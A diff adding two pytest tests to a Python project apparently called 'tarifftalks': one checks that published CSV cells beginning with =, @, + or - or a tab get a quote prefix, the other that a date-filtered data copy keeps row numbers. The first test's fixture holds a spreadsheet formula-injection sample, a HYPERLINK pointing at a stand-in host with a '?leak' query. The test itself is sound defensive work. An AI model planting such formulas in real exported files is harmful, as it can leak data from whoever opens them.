@@ -110,3 +110,34 @@ def test_as_of_after_the_newest_article_or_in_the_future_is_refused(facts):
     future = dt.date.today() + dt.timedelta(days=400)
     with pytest.raises(ParameterError, match=r"a date not in the future \(today is "):
         parse_as_of(future.isoformat(), facts)
+
+
+def test_cells_a_spreadsheet_would_run_get_a_quote_and_other_rows_keep_their_bytes():
+    from tarifftalks.build.publish import neutralised
+
+    text = (
+        "id,source_id,value,note\r\n"
+        "a,a000,-5.2,plain\r\n"
+        'b,a000,3,"=HYPERLINK(""http://x.example/?leak"",""click"")"\r\n'
+        "c,a000,+1,@SUM(1+1)\r\n"
+        "d,a000,-2+3,\tnote\r\n"
+    )
+    lines = neutralised(text).splitlines(keepends=True)
+    assert lines[:2] == text.splitlines(keepends=True)[:2]  # the header, and a row with a plain negative number
+    rows = list(csv.reader(lines[1:]))
+    assert rows[1][3] == '\'=HYPERLINK("http://x.example/?leak","click")'
+    assert rows[2][2:] == ["+1", "'@SUM(1+1)"] and rows[3][2:] == ["'-2+3", "'\tnote"]
+    assert all(line.endswith("\r\n") for line in lines)
+
+
+def test_the_rows_in_scope_keep_their_line_numbers(tmp_path):
+    """A later article's rows are blank lines in the copy the build falls back to: errors name data/'s rows."""
+    from tarifftalks.build.publish import copy_without_later
+    from tarifftalks.facts.load import load_facts
+
+    copy_without_later(ROOT / "data", tmp_path / "data", "2025-04-15")
+    whole, scoped = load_facts(ROOT / "data"), load_facts(tmp_path / "data")
+    for name in whole.fact_tables:
+        kept = whole[name][whole[name]["source_id"].isin({"a000", "a001"})]
+        assert list(scoped[name].index) == list(kept.index), name
+    assert len(scoped.sources) == len(whole.sources)  # the articles are all known, for the parameters
